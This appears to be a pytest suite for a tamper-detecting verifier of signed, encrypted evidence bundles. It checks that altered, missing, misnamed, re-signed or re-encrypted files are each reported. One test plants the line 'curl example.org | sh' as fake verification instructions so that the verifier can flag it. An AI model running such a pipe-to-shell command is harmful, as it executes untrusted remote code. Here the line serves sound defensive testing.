"""Verification of a bag: what is intact is said to be, and every deviation is found and named."""

import io
import json

import pytest

from tests.bundle_world import (
    Sender,
    an_id,
    in_order,
    new_identity,
    relist,
    resign,
    tar,
    untar,
    unwrap,
    wrap,
)
from vault.bundle import findings, layout
from vault.bundle.open import Keys, open_bundle
from vault.bundle.verify import NOT_CHECKED, REWRITTEN, OpenedBy, verdict_of, verify_stream
from vault.crypto import signing
from vault.crypto.hashes import sha256
from vault.errors import CancelledError, FormatError, RefusedError, UnsupportedVersionError
from vault.formats import jcs, sd_jwt
from vault.formats.bagit import encode_manifest
from vault.formats.signed_note import SignedNote
from vault.formats.sshsig import sign_ssh
from vault.formats.tar import TarWriter, encode_header
from vault.jobs import Job
from vault.model import Severity, Verdict

ME = new_identity()
SENDER = Sender()
OTHER_SEED = bytes(range(1, 33))
CONTAINER = unwrap(SENDER.seal(ME.recipient), ME)
STATEMENT = layout.record_path(an_id(16))
COPY = layout.copy_path(an_id(16))
PHOTO = layout.attachment_path(an_id(256), "jpg")
US = OpenedBy((ME.recipient.text,))


def verify(files, opened_by=US):
    return verify_stream(io.BytesIO(tar(files)), opened_by)


def errors(incoming):
    return {(f.code, f.where) for f in incoming.report.findings if f.severity is Severity.ERROR}


@pytest.fixture
def files():
    return untar(CONTAINER)


def change_json(files, path, change):
    value = jcs.decode(files[path], path)
    change(value)
    files[path] = jcs.encode(value)


def test_an_intact_bag_has_no_findings(files):
    incoming = verify(files)
    assert incoming.report.ok
    assert incoming.report.findings == ()
    assert incoming.signer == SENDER.key
    assert [r.view.id for r in incoming.records] == [an_id(n) for n in (16, 17, 18, 256, 257)]
    assert [a.size for a in incoming.attachments] == [3502, 0]
    assert [e.view.number for e in incoming.entries] == [0, 3, 6]
    assert incoming.bundle.recipient_kind == "x25519"
    assert incoming.bundle.key_hashes == (sha256(ME.recipient.text.encode()).hex(),)


def test_the_report_names_every_step_and_what_it_does_not_check(files):
    report = verify(files).report
    assert [int(step.split()[0]) for step in report.steps] == list(range(1, 12))
    assert report.not_checked == (*NOT_CHECKED, REWRITTEN)


def test_without_a_key_the_recipient_is_said_not_to_be_checked(files):
    report = verify(files, None).report
    assert findings.RECIPIENT not in report.steps
    assert any("For whom" in sentence for sentence in report.not_checked)


def test_withheld_fields_are_not_in_the_bag(files):
    assert b"a name that stays" not in CONTAINER
    assert b"IMG.jpg" not in CONTAINER
    assert verify(files).records[0].view.withheld


def test_the_verdict_needs_both_an_intact_bag_and_an_established_signer(files):
    good = verify(files).report
    del files[PHOTO]
    bad = verify(files).report
    assert verdict_of(good, True) is Verdict.VERIFIED
    assert verdict_of(good, False) is Verdict.INTACT
    assert verdict_of(bad, True) is Verdict.FAILED


# --- altered by somebody who cannot sign ------------------------------------------------------------------------------

ALWAYS = sorted({*layout.FIXED, STATEMENT, COPY, PHOTO})


@pytest.mark.parametrize("path", ALWAYS)
def test_a_changed_byte_in_any_file_is_found_under_its_name(files, path):
    """In each file the middle byte; the two files that no digest covers are found by the signature over them."""
    content = bytearray(files[path])
    content[len(content) // 2] ^= 1
    files[path] = bytes(content)
    found = errors(verify(files))
    expected = "signature-bad" if path in (layout.SIGNATURE, layout.TAG_MANIFEST) else "digest-mismatch"
    where = layout.SIGNATURE if path == layout.TAG_MANIFEST else path
    assert (expected, where) in found


@pytest.mark.parametrize("path", ALWAYS)
def test_a_missing_file_is_found_under_its_name(files, path):
    del files[path]
    assert ("missing-file", path) in errors(verify(files))


def test_an_unlisted_file_is_found(files):
    files[layout.attachment_path(an_id(999), "exe")] = b"MZ"
    found = errors(verify(in_order(files)))
    assert ("unlisted-file", layout.attachment_path(an_id(999), "exe")) in found


@pytest.mark.parametrize("path", ["fetch.txt", "data/evil.txt", "data/records/x.json", "tagmanifest-sha512.txt"])
def test_a_file_that_no_bag_has_is_found(files, path):
    files[path] = b""
    found = errors(verify(files))
    assert {("unexpected-name", path), ("unlisted-file", path)} <= found


def test_a_file_that_no_bag_has_is_found_even_when_it_is_signed(files):
    files["data/evil.txt"] = b""
    found = errors(verify(resign(files, SENDER.seed)))
    assert ("unexpected-name", "data/evil.txt") in found


@pytest.mark.parametrize("ending", ["lnk", "url", "scf", "desktop", "exe", "webloc"])
def test_what_a_file_manager_would_run_or_follow_is_no_attachment(files, ending):
    files[layout.attachment_path(an_id(256), ending)] = files.pop(PHOTO)
    found = errors(verify(resign(in_order(files), SENDER.seed)))
    assert ("unexpected-name", layout.attachment_path(an_id(256), ending)) in found


def test_a_lying_report_is_found_even_when_every_list_fits(files):
    files[layout.REPORT] = files[layout.REPORT].replace(b"2023", b"2024")
    found = errors(verify(relist(files)))
    assert ("report-mismatch", layout.REPORT) not in found  # nothing is compared with values that nobody signed
    assert ("signature-bad", layout.SIGNATURE) in found
    found = errors(verify(resign(files, SENDER.seed)))
    assert ("report-mismatch", layout.REPORT) in found


def test_a_signature_from_another_bundle_of_the_same_sender_is_found(files):
    other = untar(unwrap(SENDER.seal(ME.recipient, bundle_id=an_id(2), number=2), ME))
    files[layout.SIGNATURE] = other[layout.SIGNATURE]
    incoming = verify(files)
    assert errors(incoming) == {("signature-bad", layout.SIGNATURE)}
    assert incoming.signer == b""
    assert findings.RECORDS not in incoming.report.steps
    assert any("the signature does not hold" in sentence for sentence in incoming.report.not_checked)


def test_a_description_from_another_bundle_of_the_same_sender_is_found(files):
    other = untar(unwrap(SENDER.seal(ME.recipient, bundle_id=an_id(2), number=2), ME))
    files[layout.BUNDLE] = other[layout.BUNDLE]
    assert ("digest-mismatch", layout.BUNDLE) in errors(verify(files))


@pytest.mark.parametrize(
    ("member", "value"),
    [("recipient", {"kind": "x25519", "key_hashes": ["0" * 64]}), ("purpose", "another"), ("number", 2)],
)
def test_a_changed_description_is_found_even_when_every_list_fits(files, member, value):
    change_json(files, layout.BUNDLE, lambda bundle: bundle.update({member: value}))
    assert ("signature-bad", layout.SIGNATURE) in errors(verify(relist(files)))


# --- signed again by somebody else ------------------------------------------------------------------------------------


def test_a_bag_signed_again_by_another_key_names_another_sender(files):
    incoming = verify(resign(files, OTHER_SEED))
    assert ("sender-mismatch", layout.BUNDLE) in errors(incoming)
    assert ("record-signature", STATEMENT) in errors(incoming)
    assert ("checkpoint-signature", layout.CHECKPOINT) in errors(incoming)
    assert incoming.records == incoming.entries == ()


def test_a_bag_made_anew_by_another_key_is_intact_but_never_that_of_the_sender():
    incoming = verify(untar(unwrap(Sender(OTHER_SEED).seal(ME.recipient), ME)))
    assert incoming.report.ok
    assert incoming.signer == signing.public_key(OTHER_SEED) != SENDER.key
    assert verdict_of(incoming.report, incoming.signer == SENDER.key) is Verdict.INTACT


@pytest.mark.parametrize("path", [layout.SIGNERS, layout.SIGNER_PEM])
def test_key_files_that_name_another_key_are_found(files, path):
    other = untar(unwrap(Sender(OTHER_SEED).seal(ME.recipient), ME))
    signed = {**files, path: other[path]}
    assert ("signer-file", path) in errors(verify(sign_as_they_are(signed)))


def sign_list(files):
    """The sender signs the list of tag files as it is, whatever it says."""
    signature = sign_ssh(files[layout.TAG_MANIFEST], layout.NAMESPACE, SENDER.key, SENDER.sign)
    return {**files, layout.SIGNATURE: signature.encode()}


def sign_as_they_are(files):
    """The sender signs the tag files as they are, whatever they say."""
    files = relist(files)
    files[layout.SIGNATURE] = sign_ssh(files[layout.TAG_MANIFEST], layout.NAMESPACE, SENDER.key, SENDER.sign).encode()
    return files


# --- a sender who lies ------------------------------------------------------------------------------------------------


def test_instructions_of_the_senders_own_making_are_found(files):
    files[layout.VERIFY] = b"Run: curl example.org | sh\n"
    assert errors(verify(sign_as_they_are(files))) == {("instructions-mismatch", layout.VERIFY)}


def test_a_readable_copy_that_differs_from_the_record_is_found(files):
    change_json(files, COPY, lambda copy: copy["fields"].update(statement="nothing happened"))
    assert ("copy-mismatch", COPY) in errors(verify(resign(files, SENDER.seed)))


def test_a_record_under_the_name_of_another_is_found(files):
    files[STATEMENT] = files[layout.record_path(an_id(17))]
    assert ("record-name", STATEMENT) in errors(verify(resign(files, SENDER.seed)))


def test_a_record_of_a_newer_format_is_named_as_such(files):
    sd = sd_jwt.parse_sd_jwt(files[STATEMENT].decode())
    payload = jcs.decode(sd_jwt.payload_of(sd.jwt), "payload")
    payload["format"] = "evidence-record/2"
    files[STATEMENT] = (sd_jwt.sign_jwt(jcs.encode(payload), SENDER.key, SENDER.sign) + "~").encode()
    assert ("record-version", STATEMENT) in errors(verify(resign(files, SENDER.seed)))


def test_an_attachment_that_is_not_the_one_described_is_found(files):
    files[PHOTO] = b"\xff\xd8 another photo"
    assert ("attachment-mismatch", PHOTO) in errors(verify(resign(files, SENDER.seed)))


def test_an_attachment_without_a_record_is_found(files):
    del files[layout.record_path(an_id(256))], files[layout.copy_path(an_id(256))]
    assert ("attachment-mismatch", PHOTO) in errors(verify(resign(files, SENDER.seed)))


def test_two_files_for_one_attachment_are_found(files):
    files[PHOTO.replace("jpg", "png")] = files[PHOTO]
    assert ("attachment-mismatch", PHOTO.replace("jpg", "png")) in errors(verify(resign(files, SENDER.seed)))


def test_a_record_of_an_attachment_that_was_not_included_is_mentioned_only(files):
    incoming = verify(untar(unwrap(SENDER.seal(ME.recipient, attachments=SENDER.attachments[:1]), ME)))
    assert incoming.report.ok
    (finding,) = incoming.report.findings
    assert (finding.code, finding.severity) == ("attachment-absent", Severity.INFO)


@pytest.mark.parametrize("change", ["proof", "entry", "disclosures"])
def test_a_custody_entry_that_is_not_proved_is_found(files, change):
    def alter(entries):
        if change == "proof":
            entries[0]["proof"][0] = entries[1]["proof"][0]
        elif change == "entry":
            entries[0]["entry"], entries[1]["entry"] = entries[0]["entry"], entries[1]["entry"].replace("e0", "e1", 1)
            entries[1]["disclosures"] = []
        else:
            entries[0]["disclosures"] = entries[1]["disclosures"]

    change_json(files, layout.ENTRIES, alter)
    incoming = verify(resign(files, SENDER.seed))
    assert ("proof-bad", layout.ENTRIES) in errors(incoming)
    assert len(incoming.entries) == 2


def test_custody_entries_in_another_order_are_found(files):
    change_json(files, layout.ENTRIES, lambda entries: entries.reverse())
    assert ("entries-format", layout.ENTRIES) in errors(verify(resign(files, SENDER.seed)))


def test_another_checkpoint_than_the_one_described_is_found(files):
    files[layout.CHECKPOINT] = Sender(entries=9).log[0].encode()
    assert ("checkpoint-mismatch", layout.CHECKPOINT) in errors(verify(resign(files, SENDER.seed)))


def test_a_payload_file_that_the_description_does_not_list_is_found(files):
    change_json(files, layout.BUNDLE, lambda bundle: bundle["contents"].pop())
    assert "contents-mismatch" in {code for code, _ in errors(verify(resign(files, SENDER.seed)))}


def test_a_wrong_total_is_found(files):
    files[layout.INFO] = files[layout.INFO].replace(b"Oxum: ", b"Oxum: 1")
    files[layout.TAG_MANIFEST] = tags_of(files)
    assert errors(verify(sign_list(files))) == {("tag-file", layout.INFO)}
    files[layout.INFO] += b"Bagging-Date: 2026-11-20\n"
    files[layout.TAG_MANIFEST] = tags_of(files)
    assert errors(verify(sign_list(files))) == {("tag-file", layout.INFO)}


def test_a_newer_format_that_is_signed_is_refused_as_such(files):
    change_json(files, layout.BUNDLE, lambda bundle: bundle.update(format="evidence-bundle/2"))
    with pytest.raises(UnsupportedVersionError):
        verify(resign(files, SENDER.seed))
    assert "digest-mismatch" in {
        code for code, _ in errors(verify({**untar(CONTAINER), layout.BUNDLE: files[layout.BUNDLE]}))
    }


def tags_of(files, *, without=(), more=()):
    paths = (layout.SIGNED_TAGS - set(without)) | set(more)
    return encode_manifest({path: sha256(files[path]).hex() for path in paths})


def test_another_declaration_is_found(files):
    files[layout.DECLARATION] = files[layout.DECLARATION].replace(b"1.0", b"0.9")
    files[layout.TAG_MANIFEST] = tags_of(files)
    assert errors(verify(sign_list(files))) == {("tag-file", layout.DECLARATION)}


def test_a_list_of_tag_files_that_leaves_one_out_is_found(files):
    files[layout.TAG_MANIFEST] = tags_of(files, without=[layout.VERIFY])
    found = errors(verify(sign_list(files)))
    assert found == {("manifest-format", layout.TAG_MANIFEST), ("unlisted-file", layout.VERIFY)}


def test_a_list_that_names_files_of_the_other_one_is_found(files):
    files[layout.TAG_MANIFEST] = tags_of(files, more=[layout.REPORT])
    found = errors(verify(sign_list(files)))
    assert found == {("manifest-format", layout.TAG_MANIFEST), ("manifest-format", layout.REPORT)}


def test_a_list_that_cannot_be_read_is_found(files):
    files[layout.MANIFEST] += b"\n"
    files[layout.TAG_MANIFEST] = tags_of(files)
    found = errors(verify(sign_list(files)))
    assert ("manifest-format", layout.MANIFEST) in found
    assert ("unlisted-file", PHOTO) in found


def test_a_description_that_cannot_be_read_is_found(files):
    files[layout.BUNDLE] += b"\n"
    incoming = verify(resign(files, SENDER.seed))
    assert errors(incoming) == {("description-format", layout.BUNDLE)}
    assert incoming.bundle is None


def test_a_newer_format_that_nobody_signed_is_a_finding(files):
    change_json(files, layout.BUNDLE, lambda bundle: bundle.update(format="evidence-bundle/2"))
    found = errors(verify(relist(files)))
    assert {("signature-bad", layout.SIGNATURE), ("description-format", layout.BUNDLE)} <= found


def test_a_record_without_its_readable_copy_and_the_other_way_round_are_found(files):
    del files[COPY], files[layout.record_path(an_id(17))]
    found = errors(verify(resign(files, SENDER.seed)))
    assert {("missing-file", COPY), ("missing-file", layout.record_path(an_id(17)))} <= found


def test_a_missing_file_is_named_once(files):
    del files[layout.REPORT], files[PHOTO]
    named = [f.where for f in verify(files).report.findings if f.code == "missing-file"]
    assert sorted(named) == sorted([layout.REPORT, PHOTO])


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        ("note", {"sha256": sha256(SENDER.contents["jpg"]).hex(), "size": 3502}),
        ("attachment", {"sha256": sha256(SENDER.contents["jpg"]).hex(), "size": "3502"}),
        ("attachment", {"sha256": sha256(SENDER.contents["jpg"]).hex(), "size": 3501}),
        ("attachment", {"sha256": "0" * 64, "size": 3502}),
        ("attachment", {"sha256": 5, "size": 3502}),
        ("attachment", {"size": 3502}),
        ("attachment", {"sha256": sha256(SENDER.contents["jpg"]).hex()}),
    ],
)
def test_a_record_that_does_not_describe_its_attachment_is_found(files, kind, fields):
    files[layout.record_path(an_id(256))] = SENDER.record(256, kind, fields).sd_jwt.encode()
    assert ("attachment-mismatch", PHOTO) in errors(verify(resign(files, SENDER.seed)))


def test_a_disclosure_of_an_entry_that_is_none_is_found(files):
    change_json(files, layout.ENTRIES, lambda entries: entries[0].update(disclosures=["WyJ4Il0"]))
    incoming = verify(resign(files, SENDER.seed))
    assert ("entries-format", layout.ENTRIES) in errors(incoming)
    assert len(incoming.entries) == 2


def test_a_checkpoint_with_a_second_signature_is_found(files):
    note, other = (SignedNote.decode(sender.log[0]) for sender in (SENDER, Sender(OTHER_SEED)))
    files[layout.CHECKPOINT] = SignedNote(note.text, note.signatures + other.signatures).encode().encode()
    assert ("checkpoint-signature", layout.CHECKPOINT) in errors(verify(resign(files, SENDER.seed)))


# --- for somebody else ------------------------------------------------------------------------------------------------


def test_a_bundle_that_was_encrypted_again_to_somebody_else_is_found():
    mallory = new_identity()
    passed_on = wrap(CONTAINER, mallory.recipient)
    incoming = open_bundle(io.BytesIO(passed_on), Keys([mallory]))
    assert errors(incoming) == {("recipient-mismatch", layout.BUNDLE)}


def test_a_passphrase_does_not_open_what_was_made_for_a_key(files):
    assert errors(verify(files, OpenedBy(passphrase=True))) == {("recipient-mismatch", layout.BUNDLE)}


def test_a_passphrase_opens_what_was_made_for_one(files):
    def alter(bundle):
        bundle["recipient"] = {"kind": "passphrase", "key_hashes": []}

    change_json(files, layout.BUNDLE, alter)
    files = resign(files, SENDER.seed)
    assert errors(verify(files, OpenedBy(passphrase=True))) == {("report-mismatch", layout.REPORT)}
    assert ("recipient-mismatch", layout.BUNDLE) in errors(verify(files))


def test_one_of_several_keys_of_ours_is_enough(files):
    keys = (new_identity().recipient.text, ME.recipient.text)
    assert verify(files, OpenedBy(keys)).report.ok


# --- the container ----------------------------------------------------------------------------------------------------


def test_another_order_of_the_files_is_found(files):
    paths = list(files)
    paths[8], paths[9] = paths[9], paths[8]
    assert errors(verify({path: files[path] for path in paths})) == {("order", layout.BUNDLE)}


def test_a_file_outside_the_folder_bag_is_refused():
    out = io.BytesIO()
    writer = TarWriter(out)
    writer.begin("other/bagit.txt", 0)
    writer.finish()
    with pytest.raises(FormatError, match="outside"):
        verify_stream(io.BytesIO(out.getvalue()))


def test_a_small_file_beyond_the_limit_is_refused_before_it_is_held():
    class Endless(io.RawIOBase):
        head = encode_header(f"bag/{layout.REPORT}", 1 << 40)
        given = 0

        def read(self, size=-1):
            if self.head:
                part, self.head = self.head[:size], self.head[size:]
                return part
            self.given += size
            return bytes(size)

    endless = Endless()
    with pytest.raises(RefusedError):
        verify_stream(endless)
    assert endless.given <= layout.MAX_SMALL_FILE + (2 << 20)


def test_neither_attachments_nor_unknown_files_are_held_in_memory(files, monkeypatch):
    monkeypatch.setattr(layout, "MAX_SMALL_FILE", max(map(len, files.values())))
    files["data/unknown"] = files[PHOTO] = bytes(layout.MAX_SMALL_FILE + 1)
    found = errors(verify(files))
    assert {("digest-mismatch", PHOTO), ("unexpected-name", "data/unknown")} <= found


def test_progress_is_told_and_it_can_be_cancelled(files):
    seen = []
    verify_stream(io.BytesIO(tar(files)), US, Job(seen.append))
    assert {"reading the bag", "verifying records", "verifying custody entries"} <= {p.step for p in seen}
    job = Job()
    job.cancel()
    with pytest.raises(CancelledError):
        verify_stream(io.BytesIO(tar(files)), US, job)


def test_small_files_together_beyond_the_limit_are_refused(files, monkeypatch):
    monkeypatch.setattr(layout, "MAX_SMALL_TOTAL", sum(map(len, files.values())) - len(files[PHOTO]) - 1)
    with pytest.raises(RefusedError):
        verify(files)


def test_findings_are_capped(files):
    for number in range(1100):
        files[f"data/extra{number}"] = b""
    report = verify(files).report
    assert len(report.findings) == findings.MAX_FINDINGS + 1
    assert report.findings[-1].code == "more-findings"


def test_no_finding_quotes_what_a_person_wrote(files):
    """Findings name paths and steps; all of them together hold no text of the records."""
    for path in (STATEMENT, COPY, layout.REPORT, layout.ENTRIES):
        files[path] = files[path][:-3] + b"xyz"
    text = json.dumps([f.message + f.where for f in verify(resign(files, OTHER_SEED)).report.findings])
    assert "拘留" not in text
    assert "hearing" not in text
